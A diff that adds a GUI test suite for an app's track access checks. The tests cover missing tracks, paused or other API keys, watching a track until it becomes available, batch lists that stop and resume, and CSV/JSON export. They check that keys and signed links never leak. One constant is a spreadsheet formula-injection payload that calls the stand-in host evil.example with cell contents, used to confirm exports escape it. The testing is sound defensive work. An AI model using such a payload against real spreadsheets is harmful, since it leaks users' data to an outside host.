@@ -1,0 +1,238 @@
+# SPDX-License-Identifier: MIT
+"""Access checks in the window: what is said of one track, with whose key, until when it is watched; and lists that run, stop, go on,
+outlive the window and are exported. Never a key and never a link."""
+import csv
+import io
+import json
+import subprocess
+import time
+import unittest
+
+from harness import x11
+from harness.sandbox import KEY, ORGANIZATION
+from harness.scenario import SLACK, Scenario
+
+OTHER_KEY = "oak_live_OtherCanary0123456789"
+MISSING = "mtrack_not0there"
+HOSTILE_TITLE = "=HYPERLINK(\"https://evil.example/\"&A1,\"Late, Night\")"
+
+
+class Checking(Scenario):
+    seconds = 2
+    stems = ("drums",)
+    keys = (KEY, OTHER_KEY)
+    metadata = {"title": HOSTILE_TITLE}
+
+    def start(self, *arguments, **options):
+        return self.start_app("--organization", ORGANIZATION, *arguments, side_panel=False, **options)
+
+    def clipboard(self):
+        text = subprocess.run(["xsel", "--clipboard", "--output"], capture_output=True, text=True, check=True).stdout
+        for secret in (*self.keys, "sig=", self.service.storage):
+            self.assertNotIn(secret, text)
+        return text
+
+    def shown(self, field):
+        """All that labels `Field: …` say now."""
+        return [name for name in self.app.window.names("label") if name.startswith(field + ": ")]
+
+    def wait_shown(self, field, *parts, seconds=15):
+        return self.app.window.wait_until(
+            lambda: next((name for name in self.shown(field) if all(part in name for part in parts)), None), f"{field}: {parts}", seconds)
+
+    # --- the list ---------------------------------------------------------------------------------------------------
+    def give(self, references):
+        """Shows the view of the checks and pastes a list."""
+        window = self.app.window
+        self.app.activate()
+        if not window.is_checked("Access checks"):
+            window.press("Access checks", "toggle button")
+        x11.set_clipboard("\n".join(references))
+        window.press("Paste references")
+        window.find("Export CSV…")
+
+    def export(self, form, name):
+        """Exports through the dialog, by the keyboard, and returns the text of the file."""
+        path = self.folder / name
+        window = self.app.window
+        window.press(f"Export {form}…")
+        window.wait_until(lambda: len(x11.windows_of(self.app.pid)) > 1, "the dialog")
+        time.sleep(0.5 * SLACK)
+        x11.activate(x11.windows_of(self.app.pid)[-1])
+        x11.key("ctrl+a")
+        x11.type_text(str(path))
+        x11.key("Return")
+        window.wait_until(lambda: path.exists() and path.stat().st_size > 0, f"the file {name}")
+        return path.read_text(encoding="utf-8-sig")
+
+    def kept(self):
+        files = list((self.app.home / "data" / "prelisten" / "checks").glob("*.json"))
+        return json.loads(files[0].read_text(encoding="utf-8"))["rows"] if files else []
+
+
+class OneTrack(Checking):
+    def test_aFailedOpening_isLookedInto_andSaysWhatIsProvenAndWhatIsNot(self):
+        service = self.start_service()
+        window = self.start(MISSING)
+        window.wait_message("does not exist, or this key has no access")
+        self.wait_shown("Proven", "404", f"list of saved tracks of {ORGANIZATION}", "key and organization work")
+        self.wait_shown("Not proven", "Whether there is such a track")
+        self.wait_shown("Whose access", KEY[:4], "environment", ORGANIZATION)
+        self.assertEqual(service.counts["apiRequests"], 2, "one request for the track, one control call")
+        self.assertEqual(service.counts["trackRequests"], 0)
+
+        window.press("Copy ticket text")
+        ticket = self.clipboard()
+        for part in (MISSING, ORGANIZATION, "404", "RESOURCE_NOT_FOUND", "req_", "UTC", "Qt", KEY[:4]):
+            self.assertIn(part, ticket)
+        window.press("Copy as cURL")
+        self.assertIn("$FREDDY_API_KEY", self.clipboard())
+        self.assertIn(MISSING, self.clipboard())
+
+    def test_aRefusedKeyNeedsNoControlCall(self):
+        service = self.start_service()
+        window = self.start(self.track.id, key=OTHER_KEY)
+        window.wait_message("does not accept", "key")
+        self.wait_shown("Not proven", "track")
+        time.sleep(0.5)
+        self.assertEqual(service.counts["apiRequests"], 1)
+
+    def test_anotherKeyIsForOneCheck_andIsForgotten(self):
+        service = self.start_service()
+        service.fault("api:status=401", text="API_KEY_PAUSED", times=1)
+        window = self.start(self.track.id)
+        window.wait_message("paused")
+        self.assertEqual(service.counts["trackRequests"], 0)
+        window.press("Check with another key…")
+        window.set_text("Another key", OTHER_KEY)
+        window.press("Check with this key")
+        window.wait_message("does not accept", OTHER_KEY[:6])
+        self.wait_shown("Whose access", OTHER_KEY[:6], "this check only")
+        # The next one is the user's own again.
+        window.press("Check again")
+        window.wait_message("can play the track")
+        self.wait_shown("Whose access", KEY[:4], "environment")
+        self.assertEqual(window.look_for("Another key", "password").text, "")
+
+    def test_aCheckOnDemandOpensNothing_andGoesAsDeepAsItIsAsked(self):
+        service = self.start_service()
+        window = self.start()
+        window.set_text("Track reference", self.track.id)
+        self.app.activate()
+        x11.key("ctrl+k")
+        window.wait_message("can play the track")
+        self.assertEqual(window.state, "Empty")
+        self.assertEqual(service.counts["storageRequests"], 0, "a link was used")
+        window.press("Deep check")
+        self.wait_shown("Deep check", "drums")
+        self.assertEqual(window.state, "Empty")
+        counts = service.counts
+        self.assertLessEqual(counts["storageBytes"], 2 * 2 * 64, "more than the first bytes were fetched")
+        self.assertGreaterEqual(counts["storageRequests"], 2)
+        self.assertEqual(counts["trackRequests"], 2)
+
+    def test_watchingEndsByItself_whenTheTrackIsShared(self):
+        service = self.start_service()
+        service.say(f"hide {self.track.id}")
+        window = self.start(self.track.id)
+        window.wait_message("does not exist, or this key has no access")
+        window.press("Watch until available")
+        window.find("Stop watching")
+        service.say(f"show {self.track.id}")
+        window.wait_message("can play the track", seconds=30)
+        asked = service.counts["apiRequests"]
+        time.sleep(7)
+        self.assertEqual(service.counts["apiRequests"], asked, "it went on asking")
+
+
+class ManyTracks(Checking):
+    def test_aListRuns_stops_goesOn_andEndsWithOneVerdictEach(self):
+        service = self.start_service(library=40)
+        window = self.start()
+        wanted = [f"mtrack_lib{number:06d}" for number in range(6)]
+        self.give([*wanted, "this is no track", MISSING, wanted[0]])
+        window.press("Start the checks")
+        self.wait_shown("Checks", "3 of 8")
+        window.press("Stop the checks")
+        window.find("Resume the checks")
+        time.sleep(1.5)
+        asked = service.counts["apiRequests"]
+        time.sleep(2)
+        self.assertEqual(service.counts["apiRequests"], asked, "it went on asking")
+        self.assertLess(asked, 8)
+        window.press("Resume the checks")
+        self.wait_shown("Checks", "All of 8", seconds=30)
+        found = list(csv.DictReader(io.StringIO(self.export("CSV", "found.csv"), newline=""), strict=True))
+        self.assertEqual([row["track_id"] for row in found], [*wanted, "this is no track", MISSING])
+        self.assertEqual([row["verdict"] for row in found], ["playable"] * 6 + ["bad_reference", "not_available"])
+        self.assertEqual(found[6]["lines"], "7")
+        self.assertEqual(found[0]["lines"].replace(";", " ").split(), ["1", "9"])
+        # What was on its way when it was stopped may have been asked for twice; and one control call.
+        self.assertLessEqual(service.counts["apiRequests"], 7 + 2 + 1)
+        self.assertEqual(service.counts["storageRequests"], 0, "a link was used")
+
+    def test_aWindowClosedMidway_losesNothing_andTheListGoesOn(self):
+        service = self.start_service(library=40)
+        self.start()
+        home = self.app.home
+        wanted = [f"mtrack_lib{number:06d}" for number in range(8)]
+        self.give(wanted)
+        self.app.window.press("Start the checks")
+        self.wait_shown("Checks", "3 of 8")
+        self.assertCloses()
+        rows = self.kept()
+        self.assertEqual([row["id"] for row in rows], wanted)
+        done = sum("verdict" in row for row in rows)
+        self.assertGreaterEqual(done, 3)
+        before = service.counts["apiRequests"]
+
+        window = self.start(home=home)
+        window.press("Access checks", "toggle button")
+        self.wait_shown("Checks", f"{done} of 8")
+        window.press("Resume the checks")
+        self.wait_shown("Checks", "All of 8", seconds=30)
+        self.assertEqual(service.counts["apiRequests"] - before, 8 - done, "what was known was asked for again")
+        found = json.loads(self.export("JSON", "found.json"))
+        self.assertEqual([row["track_id"] for row in found], wanted)
+        self.assertEqual({row["verdict"] for row in found}, {"playable"})
+
+    def test_hostileTitlesStayInert_andPastedSecretsAreShownNowhere(self):
+        self.start_service()
+        window = self.start()
+        self.give([self.track.id, f"curl -H 'X-API-Key: {OTHER_KEY}' https://x.example/nothing?sig=abc", f"{OTHER_KEY} mtrack_"])
+        window.press("Start the checks") if window.look_for("Start the checks") else window.press("Resume the checks")
+        self.wait_shown("Checks", "All of 3", seconds=30)
+        for text in (self.export("CSV", "a.csv"), self.export("JSON", "a.json")):
+            for secret in (*self.keys, "sig=", "://"):
+                self.assertNotIn(secret, text.replace("https://evil.example/", ""))
+        found = list(csv.DictReader(io.StringIO((self.folder / "a.csv").read_text(encoding="utf-8-sig"), newline=""), strict=True))
+        self.assertEqual(found[0]["title"], "'" + HOSTILE_TITLE)
+        names = " ".join(name for _, name, _ in window.nodes())
+        for secret in (OTHER_KEY, "sig="):
+            self.assertNotIn(secret, names)
+
+    def test_theListKeepsToItsRate(self):
+        service = self.start_service(library=40)
+        window = self.start()
+        self.give([f"mtrack_lib{number:06d}" for number in range(6)])
+        begun = time.monotonic()
+        window.press("Start the checks")
+        self.wait_shown("Checks", "All of 6", seconds=30)
+        # Six requests at one a second are five pauses; a busy machine only makes them longer.
+        self.assertGreaterEqual(time.monotonic() - begun, 4.9)
+        self.assertEqual(service.counts["apiRequests"], 6)
+
+    def test_aRowIsWatchedUntilItCanBePlayed(self):
+        service = self.start_service()
+        service.say(f"hide {self.track.id}")
+        window = self.start()
+        self.give([self.track.id])
+        window.press("Start the checks")
+        self.wait_shown("Checks", "All of 1")
+        window.press("Watch until available")
+        service.say(f"show {self.track.id}")
+        window.wait_until(lambda: any("can be played now" in name for name in window.names()), "the good news", 30)
+
+
+if __name__ == "__main__":
+    unittest.main()
